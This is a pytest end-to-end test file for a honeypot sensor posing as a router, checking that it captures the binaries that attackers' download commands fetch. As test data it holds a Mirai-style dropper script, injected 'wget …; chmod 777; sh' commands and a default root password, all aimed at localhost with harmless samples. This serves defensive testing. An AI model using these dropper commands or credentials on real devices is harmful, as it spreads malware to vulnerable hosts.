"""What attacks make the sensor fetch: by every tool, from real servers, typed by real clients, up to the farm."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from end_to_end.honeynet import Honeynet, public_folder, running
from end_to_end.ledger import Witness
from end_to_end.servers import nginx, pythons, tftpd, vsftpd
from end_to_end.test_telnet_clients import Seat, client, seated
from eudaemon.demo.loader import attack
from eudaemon.demo.sample import MACHINES, harmless_for
from payload.servers import saying, serving, tool

SENSOR = "persona = 'router'\n"
LAB = "[fetch]\nlab_networks = ['127.0.0.1/32']\n"
SCRIPT = """#!/bin/sh
for a in mips arm7 x86; do
  cd /tmp; wget http://127.0.0.1:{port}/bins/$a -O $a; chmod 777 $a; ./$a selfrep; rm -rf $a
done
curl -O http://127.0.0.1:{port}/bins/ppc
"""


def www_of(place: Path) -> dict[str, bytes]:
    """Make a folder of samples, all different; return them by their path."""
    www = place / "www"
    (www / "bins").mkdir(parents=True)
    made = {f"bins/{name}": harmless_for(name, note=f" {name} from a server") for name in MACHINES}
    made |= {f"{tool}.bin": harmless_for("mips", note=f" by {tool}") + bytes(70_000) for tool in ("wget", "curl",
             "http10", "tftp", "ftpget", "tls")}  # fmt: skip
    for path, data in made.items():
        (www / path).write_bytes(data)
    www.chmod(0o555)
    return made


@contextlib.asynccontextmanager
async def honeynet(*, more: str = LAB) -> AsyncIterator[tuple[Honeynet, Witness, Path]]:
    with public_folder() as place:
        witness = Witness(place / "data" / "sensor" / "spool", place / "kept")
        async with witness.watching(), running(place, sensor=SENSOR, more=more) as net:
            yield net, witness, place


async def facts(witness: Witness, kind: str, seconds: float = 20.0, **wanted: Any) -> list[dict[str, Any]]:
    """Wait until the sensor has stated such a fact; return all of them."""
    for _ in range(int(seconds / 0.05)):
        found = [event for event in witness.events() if event["kind"] == kind and wanted.items() <= event.items()]
        if found:
            return found
        await asyncio.sleep(0.05)
    raise AssertionError((kind, wanted, witness.events()[-20:]))


async def arrives(net: Honeynet, data: bytes, url: str) -> None:
    """Wait until the farm has these bytes, exact, and knows from where they came and in which session."""
    sha256 = hashlib.sha256(data).hexdigest()
    found = await net.until("/api/samples", lambda answer: sha256 in [s["sha256"] for s in answer["samples"]],
                            limit=100)  # fmt: skip
    assert found
    assert await net.raw(f"/api/samples/{sha256}/download") == data
    detail = await net.until(f"/api/samples/{sha256}", lambda sample: bool(sample["description"]))
    assert detail["description"].startswith("ELF"), detail["description"]
    urls = [related["url"] for related in detail["relations"]["urls"]]
    assert [one for one in urls if one.endswith(url)], (url, urls)
    assert detail["relations"]["sessions"]


async def log_in(seat: Seat) -> None:
    await seat.until(b"login: ")
    seat.type(b"root\r")
    await seat.until(b"Password: ")
    seat.type(b"xc3511\r")
    await seat.until(b"list of built-in commands.\r\n")
    seat.type(b"cd /tmp\r")


async def typed(seat: Seat, number: int, command: str) -> None:
    """Type a line and wait for its end."""
    seat.type(f"{command}; echo over$(({number}+1000))\r".encode())
    await seat.until(b"\nover%d\r\n" % (number + 1000))


async def output_of(*command: str, stdin: bytes = b"") -> bytes:
    process = await asyncio.create_subprocess_exec(
        *command, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    try:
        async with asyncio.timeout(30):
            said, _ = await process.communicate(stdin)
    finally:
        if process.returncode is None:
            process.kill()
    return said


async def test_every_tool_from_real_servers_typed_by_real_clients() -> None:
    async with honeynet() as (net, _, place), contextlib.AsyncExitStack() as servers:
        made, www = www_of(place), place / "www"
        web = await servers.enter_async_context(nginx(place / "nginx", www))
        old = await servers.enter_async_context(pythons(www))
        tftp = await servers.enter_async_context(tftpd(www))
        ftp = await servers.enter_async_context(vsftpd(place / "vsftpd", www))
        (www.parent / "www").chmod(0o755)
        for name, file, source, lines in (
            ("busybox", b"c", "curl.bin", (f"wget http://127.0.0.1:{web}/wget.bin", f"curl -o c http://127.0.0.1:{web}/curl.bin",
                         f"wget -q -O - http://127.0.0.1:{old}/http10.bin > h")),
            ("inetutils", b"t", "tftp.bin", (f"tftp -g -r tftp.bin -l t 127.0.0.1 {tftp}",
                           f"ftpget -P {ftp} 127.0.0.1 f ftpget.bin")),
        ):  # fmt: skip
            async with seated(*client(name), "127.0.0.1", str(net.ports["telnet"])) as (seat, process):
                await log_in(seat)
                for number, line in enumerate(lines):
                    await typed(seat, number, line)
                seat.type(b"wc -c %s\r" % file)
                await seat.until(b"\n%d %s\r\n" % (len(made[source]), file))
                seat.type(b"exit\r")
                async with asyncio.timeout(15):
                    await process.wait()
        await arrives(net, made["wget.bin"], f"http://127.0.0.1:{web}/wget.bin")
        await arrives(net, made["curl.bin"], f"http://127.0.0.1:{web}/curl.bin")
        await arrives(net, made["http10.bin"], f"http://127.0.0.1:{old}/http10.bin")
        await arrives(net, made["tftp.bin"], f"tftp://127.0.0.1:{tftp}/tftp.bin")
        await arrives(net, made["ftpget.bin"], f"127.0.0.1:{ftp}/ftpget.bin")


async def test_loaders_injections_and_scripts_lead_to_their_binaries() -> None:
    async with honeynet() as (net, witness, place), contextlib.AsyncExitStack() as servers:
        made, www = www_of(place), place / "www"
        (www / "bins.sh").touch()
        web = await servers.enter_async_context(nginx(place / "nginx", www))
        (www / "bins.sh").write_text(SCRIPT.format(port=web))
        base = f"http://127.0.0.1:{web}"

        outcome = await attack("127.0.0.1", net.ports["telnet"], method="wget", http=f"{base}/bins/{{arch}}")
        assert outcome.succeeded, (outcome.stage, outcome.text()[-500:])
        assert outcome.architecture == "mips"
        await arrives(net, made["bins/mips"], f"{base}/bins/mips")

        # A real client's injection; the script that it fetches is followed to what it would have fetched.
        command = f"cd /tmp; wget {base}/bins.sh; chmod 777 bins.sh; sh bins.sh"
        curl = tool("curl", "curl")
        said = await output_of(curl, "-sS", "-m", "20", f"http://127.0.0.1:{net.ports['http']}/shell?{quote(command)}")
        assert b"curl:" not in said, said
        for name in ("arm7", "x86", "ppc"):
            await arrives(net, made[f"bins/{name}"], f"{base}/bins/{name}")
        recognised = await facts(witness, "exploit.recognised")
        assert {one["command"] for one in recognised} == {command}

        # The same through TLS, which any port takes.
        command = f"cd /tmp;wget {base}/tls.bin"
        said = await output_of(
            curl, "-k", "-sS", "-m", "20", f"https://127.0.0.1:{net.ports['http']}/shell?{quote(command)}"
        )
        assert b"curl:" not in said, said
        await arrives(net, made["tls.bin"], f"{base}/tls.bin")
        openssl = tool("openssl", "openssl")
        await output_of(
            openssl, "s_client", "-connect", f"127.0.0.1:{net.ports['catchall']}", stdin=b"hello of nobody\n"
        )
        payload = hashlib.sha256(b"hello of nobody\n").hexdigest()
        assert await facts(witness, "artefact.kept", sha256=payload)
        accepted = await facts(witness, "tls.accepted")
        assert {one["local"]["port"] for one in accepted} == {net.ports["http"], net.ports["catchall"]}
        assert not [event for event in witness.events() if event["kind"] in ("sensor.faulted", "peer.faulted")]


async def wish(net: Honeynet, *urls: str) -> None:
    """Let a loader wish for these, over HTTP, without waiting for what comes of it."""
    for url in urls:
        reader, writer = await asyncio.open_connection("127.0.0.1", net.ports["http"])
        writer.write(f"GET /shell?{quote(f'wget {url}')} HTTP/1.0\r\n\r\n".encode())
        async with asyncio.timeout(20):
            await reader.read()
        writer.close()


async def test_servers_that_lie_hang_and_lead_in_circles_cost_their_limits() -> None:
    trap = socket.create_server(("127.0.0.2", 0))
    trap.setblocking(False)
    trapped = f"http://127.0.0.2:{trap.getsockname()[1]}/x"
    asked = [0]

    async def circle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked[0] += 1
        await saying(b"HTTP/1.1 302 Found\r\nLocation: /again\r\nContent-Length: 0\r\n\r\n")(reader, writer)

    async def endless(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n\x7fELF")
        while True:
            writer.write(bytes(65_536))
            await writer.drain()

    ok = b"HTTP/1.1 200 OK\r\nContent-Length: "
    limits = LAB + "idle_s_max = 1.0\ntotal_s_max = 5.0\nbytes_max = 2000000\n"
    async with (
        honeynet(more=limits) as (net, witness, _),
        serving(circle) as in_circles,
        serving(saying(ok + b"99\r\n\r\n\x7fELF short")) as short,
        serving(saying(ok + b"4\r\n\r\n\x7fELF and more")) as long,
        serving(saying(ok + b"5\r\n\r\n\x7f", then="hang")) as hanging,
        serving(endless) as without_end,
        serving(saying(f"HTTP/1.1 302 Found\r\nLocation: {trapped}\r\n\r\n".encode())) as elsewhere,
    ):
        urls = {
            what: f"http://127.0.0.1:{port}/{what}"
            for what, port in (("circle", in_circles), ("short", short), ("long", long), ("hang", hanging),
                               ("endless", without_end), ("elsewhere", elsewhere))
        }  # fmt: skip
        async with asyncio.TaskGroup() as group:
            for url in urls.values():
                group.create_task(wish(net, url))
        found = {what: (await facts(witness, "download.finished", url=url))[0] for what, url in urls.items()}
        outcome = {what: (one["outcome"], one["reason"]) for what, one in found.items()}
        assert outcome["circle"] == ("failed", "more than 5 redirects")
        assert asked == [6]
        assert outcome["short"][0] == "partial"
        assert found["short"]["sha256"] == hashlib.sha256(b"\x7fELF short").hexdigest()
        assert outcome["long"] == ("partial", "more than the 4 bytes announced")
        assert found["long"]["sha256"] == hashlib.sha256(b"\x7fELF and more").hexdigest()
        assert outcome["hang"][0] == "partial"
        assert outcome["endless"][0] == "partial"
        assert found["endless"]["size"] == 2_000_000
        assert outcome["elsewhere"] == ("refused", "address: loopback")
        with pytest.raises(BlockingIOError):
            trap.accept()
        kept = [event for event in witness.events() if event["kind"] == "artefact.kept" and event["partial"]]
        assert {event["url"] for event in kept} == {urls[what] for what in ("short", "long", "hang", "endless")}
        assert not [event for event in witness.events() if event["kind"] == "sensor.faulted"]
        outcome_ = await attack("127.0.0.1", net.ports["telnet"], payload=harmless_for, method="echo")
        assert outcome_.succeeded
    trap.close()


@pytest.mark.parametrize(
    ("policy", "reason"),
    [("policy = 'off'\nlab_networks = ['127.0.0.0/8']", "policy"), ("policy = 'public'", "address: loopback")],
    ids=["off", "no lab"],
)
async def test_what_may_not_be_fetched_is_not_asked_for(policy: str, reason: str) -> None:
    trap = socket.create_server(("127.0.0.1", 0))
    trap.setblocking(False)
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    datagrams.setblocking(False)
    tcp, udp = trap.getsockname()[1], datagrams.getsockname()[1]
    urls = [f"http://127.0.0.1:{tcp}/a", f"http://localhost:{tcp}/b", f"ftp://127.0.0.1:{tcp}/c",
            f"https://127.0.0.1:{tcp}/d", f"http://0x7f000001:{tcp}/e", f"tftp://127.0.0.1:{udp}/f"]  # fmt: skip
    async with honeynet(more=f"[fetch]\n{policy}\n") as (net, witness, _):
        await wish(net, *urls[:-1])
        outcome = await attack("127.0.0.1", net.ports["telnet"], method="tftp", tftp=urls[-1])
        assert outcome.stage in ("upload", "run", "clean up")
        for url in urls[:-1]:
            one = (await facts(witness, "download.finished", url=url))[0]
            assert (one["outcome"], one["reason"], one["sha256"]) == ("refused", reason, "")
        with pytest.raises(BlockingIOError):
            trap.accept()
        with pytest.raises(BlockingIOError):
            datagrams.recv(1)
    trap.close()
    datagrams.close()
